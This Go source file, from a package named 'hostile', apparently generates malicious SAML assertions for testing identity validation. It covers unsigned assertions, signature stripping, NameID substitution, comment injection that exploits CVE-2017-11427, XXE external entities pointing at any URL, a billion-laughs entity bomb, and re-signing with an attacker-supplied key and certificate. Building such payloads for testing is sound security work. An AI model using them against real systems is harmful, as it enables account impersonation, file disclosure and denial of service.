package hostile

import (
	"bytes"
	"crypto"
	"crypto/rand"
	"encoding/base64"
	"encoding/xml"
	"fmt"
	"strings"
	"time"

	"github.com/beevik/etree"
	dsig "github.com/russellhaering/goxmldsig"
)

// SAMLAssertion returns a well-formed bearer assertion (SAML 2.0 core section 2.3.3) that nobody signed, as base64url,
// the form in which RFC 7522 section 2.1 has it sent. It is valid for five minutes.
func SAMLAssertion(issuer, audience, subject string) string {
	const stamp = "2006-01-02T15:04:05Z"
	now := time.Now().UTC()
	from, until := now.Format(stamp), now.Add(5*time.Minute).Format(stamp)
	assertion := fmt.Sprintf(`<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" `+
		`ID="_%s" Version="2.0" IssueInstant="%s">`+
		`<saml:Issuer>%s</saml:Issuer><saml:Subject>`+
		`<saml:NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">%s</saml:NameID>`+
		`<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">`+
		`<saml:SubjectConfirmationData Recipient="%s" NotOnOrAfter="%s"/></saml:SubjectConfirmation></saml:Subject>`+
		`<saml:Conditions NotBefore="%s" NotOnOrAfter="%s"><saml:AudienceRestriction><saml:Audience>%[5]s</saml:Audience>`+
		`</saml:AudienceRestriction></saml:Conditions><saml:AuthnStatement AuthnInstant="%[2]s"><saml:AuthnContext>`+
		`<saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport`+
		`</saml:AuthnContextClassRef>`+
		`</saml:AuthnContext></saml:AuthnStatement></saml:Assertion>`,
		rand.Text(), from, escape(issuer), escape(subject), escape(audience), until, from, until)
	return base64.RawURLEncoding.EncodeToString([]byte(assertion))
}

func escape(text string) string {
	var b bytes.Buffer
	if err := xml.EscapeText(&b, []byte(text)); err != nil {
		panic(err)
	}
	return b.String()
}

// IsAssertion reports whether a document is what the functions of this package change: a signed assertion with a
// NameID.
func IsAssertion(document []byte) bool {
	doc := etree.NewDocument()
	if err := doc.ReadFromBytes(document); err != nil || doc.Root() == nil || doc.Root().Tag != "Assertion" {
		return false
	}
	return doc.Root().FindElement("./Subject/NameID") != nil && doc.Root().FindElement("./Signature") != nil
}

// NameID returns the name in an assertion.
func NameID(assertion []byte) string {
	return child(child(parse(assertion), "Subject"), "NameID").Text()
}

// StripSignature returns the assertion without its signature.
func StripSignature(signed []byte) []byte {
	root := parse(signed)
	root.RemoveChild(child(root, "Signature"))
	return write(root)
}

// WithNameID returns the assertion with another user under the signature that it has.
func WithNameID(signed []byte, nameID string) []byte {
	root := parse(signed)
	child(child(root, "Subject"), "NameID").SetText(nameID)
	return write(root)
}

// CommentNameID returns the assertion with a comment after that many bytes of its NameID. Canonicalization leaves
// comments out, so the signature stays valid; who reads the text up to the first child node reads another user
// (CVE-2017-11427).
func CommentNameID(signed []byte, at int) []byte {
	root := parse(signed)
	name := child(child(root, "Subject"), "NameID")
	text := name.Text()
	name.SetText("")
	name.CreateText(text[:at])
	name.CreateComment(" ")
	name.CreateText(text[at:])
	return write(root)
}

// ExternalEntity returns the assertion with a document type that declares an entity at a URL, which the NameID stands
// for: whoever resolves it fetches the URL, a file or a server (XXE).
func ExternalEntity(signed []byte, url string) []byte {
	return withDTD(signed, `<!ENTITY x SYSTEM "`+escape(url)+`">`)
}

// EntityBomb returns the assertion with a document type whose entity unfolds to a gigabyte.
func EntityBomb(signed []byte) []byte {
	var entities strings.Builder
	entities.WriteString(`<!ENTITY e0 "0123456789">`)
	for n := 1; n <= 8; n++ {
		fmt.Fprintf(&entities, `<!ENTITY e%d "%s">`, n, strings.Repeat(fmt.Sprintf("&e%d;", n-1), 10))
	}
	return withDTD(signed, entities.String()+`<!ENTITY x "&e8;">`)
}

// withDTD puts a document type before the assertion and its entity x in the place of the NameID.
func withDTD(signed []byte, entities string) []byte {
	const mark = "entity-x-goes-here"
	document := strings.Replace(string(WithNameID(signed, mark)), mark, "&x;", 1)
	return []byte("<!DOCTYPE saml:Assertion [" + entities + "]>" + document)
}

// SignSAML returns the assertion signed anew by a key, with a certificate in KeyInfo: valid for who trusts what the
// document brings along. method is the URI of the XML signature algorithm.
func SignSAML(assertion []byte, key crypto.Signer, certificate []byte, method string) []byte {
	root := parse(assertion)
	if signature := root.FindElement("./Signature"); signature != nil {
		root.RemoveChild(signature)
	}
	context := must(dsig.NewSigningContext(key, [][]byte{certificate}))
	context.Canonicalizer = dsig.MakeC14N10ExclusiveCanonicalizerWithPrefixList("")
	if err := context.SetSignatureMethod(method); err != nil {
		panic(err)
	}
	adopt(root, must(context.ConstructSignature(root, true)))
	return write(root)
}
